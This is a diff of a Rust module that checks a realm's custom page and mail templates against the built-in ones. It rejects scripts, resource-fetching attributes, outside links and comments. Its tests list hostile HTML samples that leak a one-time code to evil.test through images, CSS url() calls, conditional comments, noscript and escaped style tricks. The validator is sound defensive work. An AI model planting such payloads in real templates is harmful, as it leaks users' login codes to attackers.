@@ -1,12 +1,15 @@
 //! What a page or mail of a realm's own must still do: everything that the built-in one does for people and programs, and
-//! nothing that the built-in one does not. Both are rendered with the same content and compared as documents.
+//! nothing that the built-in one does not. Both are rendered with the same content and compared as documents: with made-up
+//! content before a look is kept, and with the content of the moment each time before something is sent, for a template
+//! may ask whom it speaks to.
 
 use std::collections::{BTreeMap, BTreeSet};
 
 use scraper::{ElementRef, Html, Selector};
 use vestibule_realms::Issuer;
+use vestibule_usecases::RealmSnapshot;
 
-use crate::mail::is_own_link;
+use crate::mail::{is_own_link, line};
 
 /// Elements that act, load or move what is around them; a template brings none but the built-in ones.
 const FIXED: [&str; 6] = ["script", "meta", "link", "img", "source", "style"];
@@ -26,10 +29,37 @@ const FORBIDDEN: [&str; 12] = [
     "animate",
 ];
 
-/// What is wrong with a page beside the built-in one; the first few things.
-pub(crate) fn page_faults(built_in: &str, own: &str) -> Vec<String> {
+/// Attributes that make a browser or a mail program fetch something.
+const FETCHING: [&str; 14] = [
+    "src",
+    "srcset",
+    "imagesrcset",
+    "poster",
+    "data",
+    "lowsrc",
+    "dynsrc",
+    "longdesc",
+    "manifest",
+    "codebase",
+    "archive",
+    "classid",
+    "xlink:href",
+    "cite",
+];
+
+/// What is wrong with a page beside the built-in one; the first few things. Addresses elsewhere are those that the theme's
+/// own templates spell out, so that nothing of the page's content leaves in one.
+pub(crate) fn page_faults(built_in: &str, own: &str, spelled: &str) -> Vec<String> {
     let (built_in, own) = (Html::parse_document(built_in), Html::parse_document(own));
     let mut faults = harmful(&built_in, &own);
+    let known = attributes(&built_in, "a", "href");
+    for link in attributes(&own, "a, area", "href") {
+        let elsewhere = link.starts_with("https://") || link.starts_with("mailto:");
+        let spelled_out = spelled.contains(&link) || spelled.contains(&link.replace('&', "&amp;"));
+        if elsewhere && !known.contains(&link) && !spelled_out {
+            faults.push(format!("an address elsewhere is spelled out in the template: {link}"));
+        }
+    }
     if !has(&own, "main#main h1") {
         faults.push("the page needs a heading (h1) in <main id=\"main\">".to_owned());
     }
@@ -43,14 +73,19 @@ pub(crate) fn page_faults(built_in: &str, own: &str) -> Vec<String> {
 }
 
 /// What is wrong with the HTML part of a mail.
-pub(crate) fn mail_faults(issuer: &Issuer, built_in: &str, own: &str, needed: &[String]) -> Vec<String> {
+fn mail_faults(issuer: &Issuer, built_in: &str, own: &str, needed: &[String]) -> Vec<String> {
     let (ours, theirs) = (Html::parse_document(built_in), Html::parse_document(own));
     let mut faults = harmful(&ours, &theirs);
-    if has(&theirs, "form, input, button") {
-        faults.push("a mail has no form".to_owned());
+    if has(&theirs, "form, input, button, noscript") {
+        faults.push("a mail has no form and nothing for browsers without scripts".to_owned());
+    }
+    // Some mail programs act on what stands in them.
+    let comments = |html: &Html| html.tree.values().filter(|node| node.is_comment()).count();
+    if comments(&theirs) > comments(&ours) {
+        faults.push("a mail has no comments".to_owned());
     }
     let known = attributes(&ours, "a", "href");
-    for link in attributes(&theirs, "a", "href") {
+    for link in attributes(&theirs, "a, area", "href") {
         if !known.contains(&link) && !is_own_link(issuer, &link) {
             faults.push(format!("a link of a mail stays with the realm: {link}"));
         }
@@ -58,16 +93,27 @@ pub(crate) fn mail_faults(issuer: &Issuer, built_in: &str, own: &str, needed: &[
     let text: String = theirs.root_element().text().collect();
     let shown = |value: &String| text.contains(value) || attributes(&theirs, "a", "href").contains(value);
     faults.extend(needed.iter().filter(|value| !shown(value)).map(|value| lacks(value)));
+    faults.extend(theirs.root_element().text().flat_map(|text| joined(issuer, None, text, needed)));
+    faults
+}
+
+/// Words in which something stands together with what the mail exists for: mail programs make links of such words.
+fn joined(issuer: &Issuer, support: Option<&str>, text: &str, needed: &[String]) -> Vec<String> {
+    let words = text.split(|c: char| c.is_whitespace() || matches!(c, '<' | '>' | '(' | ')' | '"'));
+    let mut faults = Vec::new();
+    for word in words.filter(|word| !word.is_empty()) {
+        let bare = word.trim_matches(|c: char| !c.is_alphanumeric());
+        let link = word.trim_end_matches(['.', ',', ';', ':', '!', '?']);
+        let own = is_own_link(issuer, link) || Some(link) == support;
+        if !own && needed.iter().any(|value| bare.contains(value.as_str()) && bare != value) {
+            faults.push(format!("a code stands by itself: {word}"));
+        }
+    }
     faults
 }
 
 /// What is wrong with the plain part of a mail, or its subject.
-pub(crate) fn text_faults(
-    issuer: &Issuer,
-    support: Option<&str>,
-    own: &str,
-    needed: &[String],
-) -> Vec<String> {
+fn text_faults(issuer: &Issuer, support: Option<&str>, own: &str, needed: &[String]) -> Vec<String> {
     let mut faults: Vec<String> =
         needed.iter().filter(|value| !own.contains(*value)).map(|value| lacks(value)).collect();
     let words = own.split(|c: char| c.is_whitespace() || matches!(c, '<' | '>' | '(' | ')' | '"'));
@@ -77,7 +123,30 @@ pub(crate) fn text_faults(
             faults.push(format!("a link of a mail stays with the realm: {link}"));
         }
     }
+    faults.extend(joined(issuer, support, own, needed));
     faults
+}
+
+/// What is wrong with a part of a mail beside the built-in one.
+pub(crate) fn part_faults(
+    realm: &RealmSnapshot,
+    part: &str,
+    (built_in, own): (&str, &str),
+    data: &serde_json::Map<String, serde_json::Value>,
+) -> Vec<String> {
+    // What a mail exists for. Some of it is of use in one part only: what the built-in one shows is what is needed.
+    let telling = |name: &str| name == "code" || name.ends_with("link");
+    let plain = built_in.replace("&#x2f;", "/").replace("&amp;", "&");
+    let values = data.iter().filter(|(name, _)| telling(name)).filter_map(|(_, value)| value.as_str());
+    let needed: Vec<String> = values.filter(|value| plain.contains(*value)).map(str::to_owned).collect();
+    match part {
+        "body.html" => mail_faults(&realm.issuer, built_in, own, &needed),
+        "subject.txt" if line(own).is_empty() => vec!["a subject is not empty".to_owned()],
+        _ => {
+            let support = realm.realm.settings.branding.support_uri.as_deref();
+            text_faults(&realm.issuer, support, own, &needed)
+        }
+    }
 }
 
 fn lacks(value: &str) -> String {
@@ -128,15 +197,37 @@ fn harmful(built_in: &Html, own: &Html) -> Vec<String> {
             {
                 faults.push(format!("the attribute {attribute} is not used"));
             }
-            if matches!(lower.as_str(), "href" | "xlink:href" | "src" | "action") && !leads_well(text) {
-                let known = attributes(built_in, &format!("[{lower}]"), &lower);
-                if !known.contains(text) {
-                    faults.push(format!("{attribute}=\"{text}\": an address is a path, https: or mailto:"));
-                }
+            let of_ours = || valued(built_in, &lower, text);
+            let link = matches!(name, "a" | "area") && lower == "href";
+            if (link || lower == "action") && !leads_well(text) && !of_ours() {
+                faults.push(format!("{attribute}=\"{text}\": an address is a path, https: or mailto:"));
+            }
+            let fetches = FETCHING.contains(&lower.as_str()) || lower == "href" && !link;
+            if fetches && !of_ours() {
+                faults.push(format!(
+                    "{attribute}=\"{text}\": nothing is loaded beside what the built-in one loads"
+                ));
+            }
+            if lower == "style" && !of_ours() && !paints(text) {
+                faults.push(format!("style=\"{text}\": a style loads nothing"));
             }
         }
     }
     faults
+}
+
+/// Whether an element has an attribute of this value.
+fn valued(html: &Html, name: &str, value: &str) -> bool {
+    select(html, "*").iter().any(|one| {
+        one.value().attrs().any(|(attribute, text)| attribute.eq_ignore_ascii_case(name) && text == value)
+    })
+}
+
+/// Whether a style only says how something looks: no address, and nothing that could hide one.
+fn paints(style: &str) -> bool {
+    let lower = style.to_ascii_lowercase();
+    let loads = ["url", "image", "src", "@", "\\", "/*", "expression", "behavior", "binding"];
+    !loads.iter().any(|word| lower.contains(word))
 }
 
 fn leads_well(address: &str) -> bool {
@@ -211,6 +302,8 @@ fn foreign_forms(built_in: &Html, own: &Html) -> Vec<String> {
 
 #[cfg(test)]
 mod tests {
+    use vestibule_kernel::contact::Locale;
+
     use super::*;
 
     const OURS: &str = "<!doctype html><html><head><link rel=stylesheet href=/a.css></head><body><main id=main><h1>Hi</h1>\
@@ -221,7 +314,7 @@ mod tests {
     fn faults(from: &str, to: &str) -> Vec<String> {
         let own = OURS.replace(from, to);
         assert!(own != OURS || from.is_empty(), "{from}");
-        page_faults(OURS, &own)
+        page_faults(OURS, &own, &own)
     }
 
     #[test]
@@ -256,6 +349,49 @@ mod tests {
     }
 
     #[test]
+    fn an_address_elsewhere_takes_nothing_of_the_page_along() {
+        let own = OURS.replace("<h1>Hi</h1>", "<h1>Hi</h1><a href='https://acme.test/?a=1&amp;b=ada'>us</a>");
+        let told = |spelled: &str| page_faults(OURS, &own, spelled);
+        assert_eq!(told("<a href='https://acme.test/?a=1&amp;b=ada'>"), Vec::<String>::new());
+        assert!(
+            told("<a href='https://acme.test/?a=1&amp;b={{ page.username }}'>")[0].contains("spelled out")
+        );
+    }
+
+    #[test]
+    fn a_mail_loads_nothing_and_gives_its_code_to_nobody() {
+        let public = url::Url::parse("https://id.acme.test").unwrap();
+        let issuer = crate::samples::realm(&public, &Locale::english()).unwrap().issuer;
+        let ours = "<!doctype html><body><p>Code</p><p class=code>482913</p>\
+            <a href=https://id.acme.test/realms/acme/x>go</a></body>";
+        let needed = ["482913".to_owned()];
+        let told = |more: &str| {
+            mail_faults(&issuer, ours, &ours.replace("<p>Code</p>", &format!("<p>Code</p>{more}")), &needed)
+        };
+        for good in ["<p>Hello</p>", "<p>Type <b>482913</b>.</p>", "<p style='color:#fff;margin:0'>x</p>"] {
+            assert_eq!(told(good), Vec::<String>::new(), "{good}");
+        }
+        for bad in [
+            "<img src='https://evil.test/482913.png'>",
+            "<p style='background:url(https://evil.test/482913)'>x</p>",
+            "<a href='https://evil.test/482913'>x</a>",
+            "<p>evil.test/482913</p>",
+            "<!--[if mso]><img src='https://evil.test/482913'><![endif]-->",
+            "<noscript><img src='https://evil.test/482913'></noscript>",
+        ] {
+            assert_ne!(told(bad), Vec::<String>::new(), "{bad}");
+        }
+        let plain = |text: &str| text_faults(&issuer, None, text, &needed);
+        assert_eq!(
+            plain("Your code: 482913.\nOr open https://id.acme.test/realms/acme/x?c=482913."),
+            Vec::<String>::new()
+        );
+        for bad in ["482913 https://evil.test/482913", "Code 482913, or www.evil.test/482913"] {
+            assert_ne!(plain(bad), Vec::<String>::new(), "{bad}");
+        }
+    }
+
+    #[test]
     fn what_acts_or_leads_astray_is_refused() {
         for bad in [
             "<script>alert(1)</script>",
@@ -274,6 +410,13 @@ mod tests {
             "<a href=http://evil.test>x</a>",
             "<button formaction=https://evil.test>x</button>",
             "<a href=/x ping=https://evil.test>x</a>",
+            "<svg><use href=https://evil.test/a.svg></use></svg>",
+            "<svg><image href=https://evil.test/a.png></image></svg>",
+            "<svg><image xlink:href=https://evil.test/a.png></image></svg>",
+            "<input type=image src=https://evil.test/a.png>",
+            "<blockquote cite=https://evil.test>x</blockquote>",
+            "<p style=background:url(https://evil.test/a.png)>x</p>",
+            "<p style='background:u\\72l(//evil.test/a.png)'>x</p>",
         ] {
             assert_ne!(faults("<h1>Hi</h1>", &format!("<h1>Hi</h1>{bad}")), Vec::<String>::new(), "{bad}");
         }
